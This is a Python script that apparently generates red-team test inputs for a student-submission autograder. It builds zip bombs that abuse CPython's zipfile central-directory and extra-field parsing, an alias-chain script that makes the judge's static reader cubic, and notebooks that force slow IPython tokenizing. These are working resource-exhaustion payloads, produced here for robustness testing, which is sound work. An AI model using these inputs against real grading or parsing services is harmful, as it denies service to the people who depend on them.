"""Generator for attack round 74's cases (see _r74_findings.md); nothing big or binary is committed.

    python _make.py OUT extra F P   # OUT/extra_bomb_canvas_{F}f_{P}p.zip: a Canvas download (as its zip) with one
                                    #   student zip upload of F scripts, its central directory padded with P entries
                                    #   of 65,532-byte extra fields (finding 1: F=20, P=2040, 153,657 bytes)
    python _make.py OUT cd K N      # OUT/cd_bomb_canvas_{K}x{N}.zip: K student zip uploads, each nothing but a zip64
                                    #   central directory of N bare entries (finding 2: K=1 or 16, N=2855000)
    python _make.py OUT chain N     # OUT/alias_chain_{N}.py: q6's solution scaled by the last of N chained names
                                    #   (finding 3: N=3000, 4000, 6000)
    python _make.py OUT ipy         # OUT/ipy_mod.ipynb, OUT/ipy_bracket.ipynb: "small" notebooks that cost the
                                    #   judge ~5 s of IPython tokenizing (finding 5)
"""
import io
import struct
import sys
import zipfile
from pathlib import Path


def cd_only_zip(n: int, name: bytes = b"a") -> bytes:
    """A zip64 archive of n central-directory entries and no data (offsets all 0)."""
    entry = struct.pack("<4s4B4HL2L5H2L", b"PK\x01\x02", 20, 3, 20, 0, 0, 0, 0, 0, 0, 0, 0,
                        len(name), 0, 0, 0, 0, 0, 0) + name
    cd = entry * n
    cd_size, cd_off = len(cd), 0
    z64 = struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, n, n, cd_size, cd_off)
    loc = struct.pack("<4sLQL", b"PK\x06\x07", 0, cd_size, 1)
    eocd = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    return cd + z64 + loc + eocd


HONEST = '{"cells":[{"cell_type":"code","source":"print(1)","metadata":{},"outputs":[],"execution_count":null}],' \
         '"metadata":{},"nbformat":4,"nbformat_minor":5}'


def canvas_bomb(path: Path, k: int, n: int) -> None:
    inner = cd_only_zip(n)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("honest_10001_1_Lecture06.ipynb", HONEST)
        for i in range(k):
            z.writestr(f"student{i}_{20000 + i}_1_work.zip", inner)



def padded_upload(members: dict[str, bytes], pad_entries: int, extra_len: int = 65532) -> bytes:
    """A zip holding ``members`` (stored), whose central directory also lists ``pad_entries`` entries named ``a``
    (no data: never read) each with an extra field of ``extra_len`` zero bytes: 16,383 empty extra blocks, which
    CPython's ZipInfo._decodeExtra walks by slicing the rest of the field each time (quadratic: ~17 ms an entry)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        for name, data in members.items():
            z.writestr(name, data)
    raw = buf.getvalue()
    eocd_at = raw.rindex(b"PK\x05\x06")
    (_, _, _, count, _, cd_size, cd_off, _) = struct.unpack("<4s4H2LH", raw[eocd_at:eocd_at + 22])
    extra = b"\0" * extra_len
    pad = struct.pack("<4s4B4HL2L5H2L", b"PK\x01\x02", 20, 3, 20, 0, 0, 0, 0, 0, 0, 0, 0,
                      1, len(extra), 0, 0, 0, 0, 0) + b"a" + extra
    cd = raw[cd_off:cd_off + cd_size] + pad * pad_entries
    total = count + pad_entries
    return raw[:cd_off] + cd + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, total, total, len(cd), cd_off, 0)


SCRIPT = b"x = 1\nprint('member', x)\n"


def canvas_extra_bomb(path: Path, files: int, pad_entries: int) -> None:
    """A Canvas download given as its zip: one honest upload, and one student's zip upload of ``files`` scripts
    whose central directory is padded (see :func:`padded_upload`) to just under 128 MiB."""
    inner = padded_upload({f"part{i:02d}.py": SCRIPT for i in range(files)}, pad_entries)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("honest_10001_1_Lecture06.ipynb", HONEST)
        z.writestr("mallory_20000_1_work.zip", inner)


def alias_chain_script(n: int) -> str:
    """q6's solution (a correct conv2d by hand), whose scale factor is the last of ``n`` module-level names each bound
    to the one before (``x1 = x0``): the static reader's walk from conv2d asks, for every name, which names hold it
    (``_containers_of``), a list searched with ``not in`` for each one added: cubic in ``n``, in the judge."""
    chain = "x0 = 1\n" + "".join(f"x{i} = x{i - 1}\n" for i in range(1, n))
    return ("import torch\n\n" + chain + f"""

def conv2d(image, kernel, stride=1, padding=0):
    h, w = image.shape
    kh, kw = kernel.shape
    padded = torch.zeros(h + 2 * padding, w + 2 * padding, dtype=image.dtype)
    padded[padding:padding + h, padding:padding + w] = image
    out_h = (h + 2 * padding - kh) // stride + 1
    out_w = (w + 2 * padding - kw) // stride + 1
    out = torch.zeros(out_h, out_w, dtype=image.dtype)
    for i in range(out_h):
        for j in range(out_w):
            window = padded[i * stride:i * stride + kh, j * stride:j * stride + kw]
            out[i, j] = (window * kernel).sum() * x{n - 1}
    return out


def max_pool2d(image, kernel_size=2):
    h, w = image.shape
    out = torch.zeros(h // kernel_size, w // kernel_size, dtype=image.dtype)
    for i in range(h // kernel_size):
        for j in range(w // kernel_size):
            block = image[i * kernel_size:(i + 1) * kernel_size, j * kernel_size:(j + 1) * kernel_size]
            out[i, j] = block.max()
    return out
""")


def dense_small_notebook(bracket: bool) -> bytes:
    """A notebook the judge calls small (963 KB, 2,990 lines, no odd breaks) that costs it ~5 s to parse: ten cells of
    99,000 characters of ``a%a%a...`` (two characters a token; ``%`` sends every cell through IPython's tokenizer)."""
    import json

    cells = []
    for _ in range(10):
        line = "a" + "%a" * 160 + ("," if bracket else "") + "\n"
        src = ("x = [\n" + line * 297 + "]\n") if bracket else ("a = 1\n" + line * 298)
        cells.append({"cell_type": "code", "source": src[:99_000], "metadata": {}, "outputs": [],
                      "execution_count": None})
    return json.dumps({"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode()


if __name__ == "__main__":
    out = Path(sys.argv[1] if len(sys.argv) > 1 else ".")
    out.mkdir(parents=True, exist_ok=True)
    what = sys.argv[2] if len(sys.argv) > 2 else "extra"
    if what == "cd":  # K inner zips of N bare entries each
        k, n = int(sys.argv[3]), int(sys.argv[4])
        canvas_bomb(out / f"cd_bomb_canvas_{k}x{n}.zip", k, n)
    elif what == "chain":  # a script of N chained aliases
        n = int(sys.argv[3])
        (out / f"alias_chain_{n}.py").write_text(alias_chain_script(n))
    elif what == "ipy":  # ipy_mod.ipynb and ipy_bracket.ipynb
        (out / "ipy_mod.ipynb").write_bytes(dense_small_notebook(False))
        (out / "ipy_bracket.ipynb").write_bytes(dense_small_notebook(True))
    else:  # one student's zip: F scripts, P padded entries (2040: just under 128 MiB)
        f, p = int(sys.argv[3]), int(sys.argv[4])
        canvas_extra_bomb(out / f"extra_bomb_canvas_{f}f_{p}p.zip", f, p)
